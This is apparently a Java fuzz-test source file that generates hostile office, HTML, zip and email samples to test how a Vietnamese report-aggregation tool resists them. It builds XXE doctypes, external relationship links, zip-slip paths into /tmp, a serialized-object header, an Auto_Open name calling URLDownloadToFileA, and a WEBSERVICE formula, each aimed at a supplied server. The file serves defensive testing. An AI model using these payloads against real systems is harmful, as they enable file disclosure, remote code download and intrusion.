package tonghop.fuzz;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import tonghop.fuzz.ZipMutations.Part;

/** Files that ask whoever reads them to fetch something, to run something, or to write somewhere else. */
final class LuringFiles {

    private static final Path SAMPLES = Path.of("inbox-sample/2024-05-03T09-00");
    private static final Path WORKBOOK = SAMPLES.resolve("BC DVCQ 6 tháng đầu năm 2024 (Vĩnh Cửu).xlsx");
    private static final Path HONEST = SAMPLES.resolve("BC TT Vĩnh An 6 tháng (kèm thuyết minh).xlsx");
    private static final Path DOCUMENTS = Path.of("src/test/resources/tonghop/document");
    private static final String DOCTYPE =
            "<!DOCTYPE a [<!ENTITY %% p SYSTEM \"%1$s/p.dtd\"> %%p; <!ENTITY e SYSTEM \"%1$s/e\">]>";

    /** A whole serialised object, as a program that takes such things would make it. */
    private static final byte[] SERIALISED = {
        (byte) 0xAC, (byte) 0xED, 0, 5, 's', 'r', 0, 14, 'j', 'a', 'v', 'a', '.', 'i', 'o', '.', 'F', 'i', 'l', 'e'
    };

    private LuringFiles() {}

    /**
     * @param server where they lure to
     * @return by name; the last one is an honest report
     */
    static Map<String, byte[]> all(String server) throws IOException {
        var files = new LinkedHashMap<String, byte[]>();
        String doctype = DOCTYPE.formatted(server);
        for (String part : List.of(
                "xl/workbook.xml",
                "xl/sharedStrings.xml",
                "xl/worksheets/sheet1.xml",
                "xl/styles.xml",
                "_rels/.rels")) {
            files.put(
                    "entity in " + part.replace('/', '-') + ".xlsx", workbook(part, xml -> withDoctype(xml, doctype)));
        }
        files.put("linked sheet.xlsx", workbook("xl/_rels/workbook.xml.rels", xml -> lured(xml, server)));
        files.put("linked package.xlsx", workbook("_rels/.rels", xml -> lured(xml, server)));
        files.put(
                "template.docx",
                document("libreoffice-word.docx", "word/_rels/document.xml.rels", xml -> lured(xml, server)));
        files.put(
                "entity.docx",
                document("libreoffice-word.docx", "word/document.xml", xml -> withDoctype(xml, doctype)));
        files.put("entity.ods", document("libreoffice.ods", "content.xml", xml -> withDoctype(xml, doctype)));
        files.put(
                "linked.ods",
                document(
                        "libreoffice.ods",
                        "content.xml",
                        xml -> xml.replaceFirst(
                                "<table:table ",
                                "<table:table-source xlink:href=\"" + server + "/t.ods\"/><table:table ")));
        files.put(
                "entity.fods",
                withDoctype(Files.readString(DOCUMENTS.resolve("libreoffice.fods")), doctype)
                        .getBytes(StandardCharsets.UTF_8));
        files.put("page.html", page(server));
        files.put(
                "outside.zip",
                ZipMutations.packed(List.of(
                        new Part("../../../../../../tmp/tonghop-evil.xlsx", Files.readAllBytes(WORKBOOK)),
                        new Part("/tmp/tonghop-evil-2.csv", "TT;Chỉ tiêu\n1;5\n".getBytes(StandardCharsets.UTF_8)))));
        files.put("message.eml", message(server));
        files.put("object.xlsx", SERIALISED);
        files.put(
                "object in it.xlsx",
                workbook("docProps/app.xml", xml -> new String(SERIALISED, StandardCharsets.ISO_8859_1)));
        files.put(
                "script.xlsm",
                workbook(
                        "xl/workbook.xml",
                        xml -> xml.replace(
                                "</workbook>",
                                "<definedNames><definedName"
                                        + " name=\"_xlnm.Auto_Open\">CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\""
                                        + server
                                        + "/x\",\"/tmp/tonghop-evil-3\",0,0)</definedName></definedNames></workbook>")));
        files.put(
                "formula.xlsx",
                workbook(
                        "xl/worksheets/sheet1.xml",
                        xml -> xml.replaceFirst("<v>\\d+</v>", "<f>WEBSERVICE(\"" + server + "/w\")</f>")));
        files.put("honest.xlsx", Files.readAllBytes(HONEST));
        return files;
    }

    private static byte[] workbook(String part, UnaryOperator<String> change) throws IOException {
        return changed(Files.readAllBytes(WORKBOOK), part, change);
    }

    private static byte[] document(String name, String part, UnaryOperator<String> change) throws IOException {
        return changed(Files.readAllBytes(DOCUMENTS.resolve(name)), part, change);
    }

    private static byte[] changed(byte[] file, String name, UnaryOperator<String> change) throws IOException {
        var parts = new ArrayList<Part>();
        for (Part part : ZipMutations.parts(file)) {
            boolean one = part.name().equals(name);
            String text = one ? change.apply(new String(part.bytes(), StandardCharsets.UTF_8)) : "";
            parts.add(one ? new Part(name, text.getBytes(StandardCharsets.UTF_8)) : part);
        }
        return ZipMutations.packed(parts);
    }

    private static String withDoctype(String xml, String doctype) {
        int end = xml.startsWith("<?") ? xml.indexOf("?>") + 2 : 0;
        return xml.substring(0, end) + doctype + xml.substring(end).replaceFirst(">([^<>]+)<", ">&e;$1<");
    }

    private static String lured(String relations, String server) {
        return relations.replaceAll("Target=\"[^\"]*\"", "Target=\"" + server + "/part\" TargetMode=\"External\"");
    }

    private static byte[] page(String server) {
        String page =
                "<html><head><base href='%1$s/'><link rel=stylesheet href='%1$s/s.css'><meta http-equiv=refresh content='0;url=%1$s/r'>"
                        + "<script src='%1$s/x.js'></script></head><body><img src='%1$s/i.png'><iframe src='%1$s/f'></iframe>"
                        + "<table><tr><td>Chỉ tiêu<td>5</table></body></html>";
        return page.formatted(server).getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] message(String server) {
        return ("From: a@b.vn\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
                        + "Content-Type: message/external-body; access-type=URL; URL=\"" + server + "/body\"\r\n\r\n"
                        + "Content-Type: application/vnd.ms-excel\r\n\r\n--x\r\nContent-Location: " + server + "/l\r\n"
                        + "Content-Type: text/csv; name=\"../../../tmp/tonghop-evil-4.csv\"\r\n\r\nTT;5\r\n--x--\r\n")
                .getBytes(StandardCharsets.US_ASCII);
    }
}
